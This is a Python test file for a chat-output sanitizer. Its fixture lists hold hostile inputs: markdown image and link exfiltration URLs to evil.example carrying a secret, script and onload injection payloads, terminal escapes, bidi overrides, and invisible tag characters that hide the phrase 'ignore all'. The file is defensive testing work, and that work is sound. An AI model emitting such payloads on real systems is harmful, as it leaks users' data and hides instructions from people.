import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from amodal_rt.delivery.neutral import Neutral
from amodal_rt.domain.delivery import Format
from amodal_rt.domain.outcome import Origin

TAINTED = Origin(tainted=True, hosts=frozenset({"status.example"}))
EVIL = "https://evil.example/?q=secret"
ORDINARY = [
    "*bold* _italic_ ~gone~ `code`",
    "• first\n• second\n\n> quoted",
    "see https://status.example/incidents/1?a=1&b=2",
    "Größe: 3 < 4 & 5 > 4",
    "mail ann@example.com, ask @ann",
    "a <b> c",
    "1.\tone",
    "שלום",
    "👩‍💻 👍🏽 ❤️ 1️⃣ 🏳️‍🌈",
    "می‌خواهم क्‍ष",
]
ACTING = [
    "<!here>",
    "<!channel> look",
    "<!everyone>",
    "<!subteam^S123|@oncall>",
    "<!date^1392734382^{date}^https://evil.example/|soon>",
    "<@U012AB3CD>",
    "<@W012AB3CD|boss>",
    "<#C123|general>",
    "<users/all>",
    "<https://evil.example|https://bank.example>",
    "<mailto:evil@example.com|ann>",
    "<<!here>>",
    "&lt;<!here>",
    "<\u200b!here>",
    "<\u2066!channel\u2069>",
    "@channel",
    "@HERE now",
    "all: @everyone!",
    "@all",
    "@\u200dchannel",
    "a@channel",
]
"""What acts whatever the run has read."""
LINKING = [
    "@ann",
    "(@ann)",
    "@**all** @_*team*",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "</deploy:123>",
    "<:wave:123>",
    "<id:customize>",
    EVIL,
    f"<{EVIL}>",
    f"({EVIL})",
    f"**{EVIL}**",
    "HTTPS://EVIL.EXAMPLE/?q=secret",
    "https:\u200b//evil.example/?q=secret",
    "ht\u2060tps://evil.example/?q=secret",
    "https://status.example@evil.example/?q=secret",
    "https://status.example.evil.example/?q=secret",
    "https://status.example\\@evil.example/?q=secret",
    "https://status.example,x.evil.example/?q=secret",
    "https://evil。example/?q=secret",
    "https://xn--vil-qma.evil.example/",
    "http:evil.example/?q=secret",
    "https:///evil.example/?q=secret",
    "www.evil.example/?q=secret",
    "secret.evil.com",
    "evil.example/?q=secret",
    "//evil.example/?q=secret",
    "ftp://evil.example/secret",
    "mailto:eve@evil.example?body=secret",
    "javascript:fetch('//evil.example')",
    "data:text/html;base64,PHNjcmlwdD4=",
    "slack://user?team=T1&id=U1",
    f"![x]({EVIL})",
    f"! [x]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"![1]\n\n[1]: {EVIL}",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "t")',
    f"![x](\n{EVIL}\n)",
    "![x](//evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://status.example/?q=secret)",
    f"[![x]({EVIL})](https://status.example/)",
    f"[https://bank.example]({EVIL})",
    f"[bank][1]\n\n[1]: {EVIL}",
    f"[bank][1]\n\n[1]:\n  <{EVIL}>",
    f"> [1]: {EVIL}\n\n[1]",
    "[x](&#104;ttps://evil.example/?q=secret)",
    "[x](https&colon;//evil.example/?q=secret)",
    "[x](\\https://evil.example/?q=secret)",
    "[x](h%74tps://evil.example/?q=secret)",
    "[x](/relative?q=secret)",
    "[x](javascript:alert(1))",
    f'<img src="{EVIL}">',
    f"<IMG\nSRC={EVIL}>",
    f'<a href="{EVIL}">bank</a>',
    f"<svg/onload=fetch('{EVIL}')>",
    "<script>alert(1)</script>",
    f"<iframe src={EVIL}></iframe>",
    "<!-- hidden -->",
    "<?php echo 1 ?>",
    "<![CDATA[x]]>",
    "<style>@import '//evil.example'</style>",
    "*[x](https://evil.example/?q=secret)*",
    f"- [ ] [x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
]
"""What leads away, or rings: dead where a stranger may have said it."""
HIDDEN = [
    "\x1b]8;;https://evil.example\x07a\x1b]8;;\x07",
    "a\x1b[31mred\x1b[0m",
    "a\x9b31m",
    "a\x07\x08\x00b",
    "a\u202eb\u202c",
    "a\u2066b\u2069",
    "a\u200eb\u200f\u061cc",
    "a\u200bb\ufeffc\u2060d\u00ade",
    "a" + "".join(chr(0xE0000 + ord(each)) for each in "ignore all") + "b",
    "a" + "".join(chr(0xE0100 + each) for each in b"secret") + "b",
    "😀" + "".join(chr(0xFE00 + each % 16) for each in b"secret"),
    "a\u200d\u200c\u200db",
    "ㅤ\uffa0\u115f\u1160a",
    "a\u2028b",
    "a\ue000b",
]
_UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u200e\u200f\u2028-\u202e\u2060-\u206f"
    "\u3164\ufeff\uffa0\ue000-\uf8ff\ufe00-\ufe0d\U000e0000-\U000e0fff\ud800-\udfff]"
    "|[\u200c\u200d]{2}|[\ufe0e\ufe0f]{2}|\u200b{2}"
)
_RINGS = re.compile(r"(?i)@(channel|here|everyone|all)\b|(?<!\w)@[\w*_]|<[!@#]|<users/")
_LEADS = re.compile(r"(?i)(?<![\w.])(https?:[/\\]*|www\.|(?!hxxp)[a-z]+://)(?P<host>[^\s/?#<]+)")
_SCHEMES = re.compile(r"(?i)\b(javascript:|mailto:|data:[a-z]+/)")
_NAMES = re.compile(r"(?i)(?<![@\w.-])([\w-]+\.)+(example|com)\b")


def _tokens(text: str) -> Iterator[Token]:
    for each in MarkdownIt("commonmark", {"html": True}).parse(text):
        yield each
        yield from each.children or ()


def _acts_as_markdown(text: str) -> list[str]:
    """The pictures, raw HTML and links that CommonMark sees in it."""
    return [
        f"{each.type} {each.attrs}"
        for each in _tokens(text)
        if each.type in {"image", "html_block", "html_inline"}
        or (each.type == "link_open" and not _is_known(str(each.attrs["href"])))
    ]


def _is_known(address: str) -> bool:
    return re.match(r"https://status\.example(/|$)", address) is not None


def _acts_as_text(text: str) -> list[str]:
    """What programs find without any mark around it."""
    leading = [each[0] for each in _LEADS.finditer(text) if each["host"] != "status.example"]
    names = [each[0] for each in _NAMES.finditer(text) if each[0] != "status.example"]
    found = (_RINGS, _SCHEMES, _UNSEEN)
    return leading + names + [each[0] for one in found for each in one.finditer(text)]


@pytest.mark.parametrize("format", Format)
@pytest.mark.parametrize("text", [*ACTING, *LINKING, *HIDDEN])
def test_nothing_that_a_stranger_may_have_said_acts(text: str, format: Format) -> None:
    told = Neutral(format, TAINTED)(f"before {text} after")

    assert _acts_as_markdown(told) == []
    assert _acts_as_text(told) == []
    if format is Format.SLACK:
        assert not set("<>") & set(told)


@pytest.mark.parametrize("format", Format)
@pytest.mark.parametrize("text", [*ACTING, *HIDDEN])
def test_nothing_rings_hides_or_turns_in_any_run(text: str, format: Format) -> None:
    told = Neutral(format)(text)

    assert not re.search(r"(?i)@(channel|here|everyone|all)\b|<(!|@|#|users/|https:|mailto:)", told)
    assert not _UNSEEN.search(told)


@pytest.mark.parametrize("text", [*LINKING, *ACTING])
def test_what_was_said_can_still_be_read(text: str) -> None:
    shown = Neutral(Format.DISCORD, TAINTED)(text).replace("\u200b", "")
    shown = shown.replace("hxxp", "http").replace("[.]", ".").replace("[:]", ":")

    seen = re.sub("[\u200b-\u200d\u2060\u2066\u2069]", "", text)
    assert shown.lower() == seen.replace("。", ".").lower()


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_of_an_untainted_run_is_unchanged(text: str) -> None:
    assert Neutral(Format.JSON)(text) == text


@pytest.mark.parametrize("format", Format)
def test_marks_and_links_to_known_hosts_work_in_a_tainted_run(format: Format) -> None:
    said = "*bold* `code` https://status.example/x [now](https://status.example/y?a=1) 👩‍💻"

    assert Neutral(format, TAINTED)(said) == said


def test_slack_escapes_as_its_rules_say() -> None:
    assert Neutral(Format.SLACK)("3 < 4 & 5 > 4") == "3 &lt; 4 &amp; 5 &gt; 4"


@given(st.text())
def test_slack_text_holds_no_bracket_and_reads_as_written(text: str) -> None:
    """Slack turns the three entities back and nothing else."""
    told = Neutral(Format.SLACK)(text)

    assert not set("<>") & set(told)
    shown = told.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    chat = Neutral(Format.JSON)
    assert chat(shown).replace("&lt;", "<") == chat(text).replace("&lt;", "<")


def test_longer_names_are_no_broadcast() -> None:
    assert Neutral(Format.JSON)("@hereford @allison") == "@hereford @allison"


def test_unseen_characters_are_dropped_and_line_breaks_kept() -> None:
    text = "a\x1b]8;;x\x07b\u202ec\u2066d\U000e0041e\r\nf\tg\x9b"

    assert Neutral(Format.JSON)(text) == "abcde\nf\tg"
